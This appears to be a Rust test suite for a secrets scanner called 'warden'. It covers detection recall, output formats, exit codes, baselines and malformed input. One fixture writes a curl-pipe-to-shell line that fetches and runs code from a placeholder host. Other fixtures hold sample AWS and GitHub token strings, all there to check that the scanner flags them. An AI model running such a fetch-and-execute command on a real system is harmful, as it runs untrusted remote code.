//! `warden scan` end to end: recall and false positives per rule on the labelled corpus
//! in `fixtures/secrets/`, output formats (text, JSON lines, SARIF 2.1.0), exit codes,
//! baselines, and bad input (binary, invalid UTF-8, huge single-line files, symlink
//! loops, unreadable files).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::support::warden_bin;

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .canonicalize()
        .unwrap()
}

fn scan(args: &[&str], cwd: &Path) -> (i32, String, String) {
    let out = Command::new(warden_bin())
        .arg("scan")
        .args(args)
        .current_dir(cwd)
        .output()
        .expect("run warden scan");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn json_lines(out: &str) -> Vec<Value> {
    out.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn labelled_corpus_recall_and_false_positives_per_rule() {
    let corpus = repo_root().join("fixtures/secrets");
    let labels: Vec<(String, u64, String)> = std::fs::read_to_string(corpus.join("labels.tsv"))
        .unwrap()
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| {
            let mut p = l.split('\t');
            (
                p.next().unwrap().to_owned(),
                p.next().unwrap().parse().unwrap(),
                p.next().unwrap().to_owned(),
            )
        })
        .collect();
    let (_, out, err) = scan(
        &[
            "positives",
            "negatives",
            "--format",
            "json",
            "--fail-on",
            "never",
        ],
        &corpus,
    );
    let found = json_lines(&out);

    // Per rule: (labelled, found at the labelled line, false positives).
    let mut table: BTreeMap<String, (u32, u32, u32)> = BTreeMap::new();
    for (file, line, rule) in &labels {
        let e = table.entry(rule.clone()).or_default();
        e.0 += 1;
        if found
            .iter()
            .any(|f| f["path"] == file.as_str() && f["line"] == *line && f["rule"] == rule.as_str())
        {
            e.1 += 1;
        }
    }
    for f in &found {
        let labelled = labels.iter().any(|(file, line, rule)| {
            f["path"] == file.as_str() && f["line"] == *line && f["rule"] == rule.as_str()
        });
        if !labelled {
            table
                .entry(f["rule"].as_str().unwrap().to_owned())
                .or_default()
                .2 += 1;
        }
    }
    let mut report =
        String::from("rule                             labelled  found  recall  false-pos\n");
    for (rule, (n, hit, fp)) in &table {
        report.push_str(&format!(
            "{rule:<32} {n:>8} {hit:>6} {:>6.0}% {fp:>10}\n",
            100.0 * *hit as f64 / (*n).max(1) as f64
        ));
    }
    let (n, hit, fp) = table
        .values()
        .fold((0, 0, 0), |a, v| (a.0 + v.0, a.1 + v.1, a.2 + v.2));
    report.push_str(&format!(
        "TOTAL {n} labelled, {hit} found ({:.1}% recall), {fp} false positives\n",
        100.0 * hit as f64 / n as f64
    ));
    let target = repo_root().join("target");
    std::fs::create_dir_all(&target).unwrap();
    std::fs::write(target.join("secrets-recall.txt"), &report).unwrap();
    println!("{report}");
    assert!(n >= 150, "the corpus covers every rule: {n} labels");
    assert_eq!(hit, n, "every labelled secret is found\n{report}\n{err}");
    assert_eq!(fp, 0, "no false positives\n{report}");
}

#[test]
fn text_json_and_exit_codes() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    std::fs::write(
        dir.join("a.py"),
        "import os\nKEY = \"AKIAQ3EGRB4XY7MNP2KD\"\nos.system(\"curl https://x.invalid/i | sh\")\n",
    )
    .unwrap();
    std::fs::write(dir.join("clean.py"), "print('ok')\n").unwrap();

    let (code, out, err) = scan(&["."], dir);
    assert_eq!(code, 1, "an error-level finding fails by default: {err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(
        lines[0].starts_with("a.py:2:8: error[aws-access-key-id]: AWS access key ID"),
        "{out}"
    );
    assert!(
        lines[1].starts_with("a.py:3:12: warning[shell-pipe-to-shell]"),
        "{out}"
    );
    assert!(err.contains("scanned 2 files"), "{err}");
    assert!(
        !out.contains("AKIAQ3") && !err.contains("AKIAQ3"),
        "the secret is never printed"
    );

    let (code, out, _) = scan(&["a.py", "--format", "json", "--fail-on", "never"], dir);
    assert_eq!(code, 0);
    let rows = json_lines(&out);
    assert_eq!(rows[0]["rule"], "aws-access-key-id");
    assert_eq!(
        (
            rows[0]["line"].as_u64(),
            rows[0]["column"].as_u64(),
            rows[0]["endColumn"].as_u64()
        ),
        (Some(2), Some(8), Some(28))
    );
    assert_eq!(rows[0]["fingerprint"].as_str().unwrap().len(), 64);

    assert_eq!(scan(&["clean.py"], dir).0, 0);
    assert_eq!(scan(&["clean.py", "--fail-on", "warning"], dir).0, 0);
    assert_eq!(scan(&["missing.py"], dir).0, 2);
    assert_eq!(scan(&["--format", "xml"], dir).0, 2);
}

#[test]
fn sarif_is_valid_2_1_0() {
    let corpus = repo_root().join("fixtures/secrets/positives");
    let (code, out, _) = scan(&[".", "--format", "sarif"], &corpus);
    assert_eq!(code, 1);
    let sarif: Value = serde_json::from_str(&out).expect("SARIF is JSON");
    assert_eq!(sarif["version"], "2.1.0");
    assert!(sarif["$schema"].as_str().unwrap().contains("sarif-2.1.0"));
    let run = &sarif["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "warden");
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    assert!(results.len() >= 150);
    for r in results {
        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(
            rules[idx]["id"], r["ruleId"],
            "ruleIndex points at the rule"
        );
        assert!(["error", "warning", "note"].contains(&r["level"].as_str().unwrap()));
        assert!(r["message"]["text"].as_str().is_some_and(|t| !t.is_empty()));
        let loc = &r["locations"][0]["physicalLocation"];
        let uri = loc["artifactLocation"]["uri"].as_str().unwrap();
        assert!(
            !uri.starts_with('/') && !uri.contains('\\'),
            "relative URI: {uri}"
        );
        let region = &loc["region"];
        for k in ["startLine", "startColumn", "endLine", "endColumn"] {
            assert!(region[k].as_u64().unwrap() >= 1, "{k} is 1-based");
        }
        assert!(region["endLine"].as_u64() >= region["startLine"].as_u64());
        assert_eq!(
            r["partialFingerprints"]["wardenSecretHash/v1"]
                .as_str()
                .unwrap()
                .len(),
            64
        );
    }
    for rule in rules {
        assert!(
            rule["shortDescription"]["text"]
                .as_str()
                .is_some_and(|t| !t.is_empty())
        );
    }
}

#[test]
fn baseline_accepts_known_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    std::fs::write(
        dir.join("a.py"),
        "KEY = \"AKIAQ3EGRB4XY7MNP2KD\"\nTOKEN = \"ghp_Xr8TqL2mW9vN4kP7sJ1cY6dF3hG5bZ0aQeRt\"\n",
    )
    .unwrap();
    let (_, out, _) = scan(&["a.py", "--format", "json", "--fail-on", "never"], dir);
    let first = &json_lines(&out)[0];
    let baseline = serde_json::json!({"version": 1, "findings": [
        {"rule": first["rule"], "path": "a.py", "hash": first["fingerprint"]}
    ]});
    std::fs::write(dir.join("accepted.json"), baseline.to_string()).unwrap();
    let (_, out, _) = scan(
        &["a.py", "--format", "json", "--baseline", "accepted.json"],
        dir,
    );
    let rows = json_lines(&out);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["rule"], "github-pat");
    let (code, _, err) = scan(&["a.py", "--baseline", "nope.json"], dir);
    assert!(err.contains("nope.json"), "{err}");
    assert_eq!(code, 1, "a missing baseline is a warning, not an excuse");
}

#[test]
fn bad_input_is_skipped_with_reasons() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    std::fs::write(dir.join("image.bin"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").unwrap();
    std::fs::write(dir.join("latin1.py"), b"name = 'caf\xe9'\n").unwrap();
    // 50 MB on one line: above the size limit.
    std::fs::write(dir.join("huge.min.js"), vec![b'a'; 50 * 1024 * 1024]).unwrap();
    // A long minified line under the size limit is skipped line-wise, not file-wise.
    let minified = format!(
        "var a='{}';var t='ghp_Xr8TqL2mW9vN4kP7sJ1cY6dF3hG5bZ0aQeRt';\n",
        "x".repeat(40_000)
    );
    std::fs::write(dir.join("bundle.js"), minified).unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(dir.join("loop"), dir.join("loop")).unwrap();
        let locked = dir.join("locked.py");
        std::fs::write(&locked, "x = 1\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    }
    std::fs::write(dir.join("ok.py"), "print('fine')\n").unwrap();
    let (code, out, err) = scan(&["."], dir);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.is_empty(), "{out}");
    assert!(err.contains("1 binary"), "{err}");
    assert!(err.contains("1 not UTF-8"), "{err}");
    assert!(err.contains("1 too large"), "{err}");
    assert!(err.contains("1 minified lines skipped"), "{err}");
}
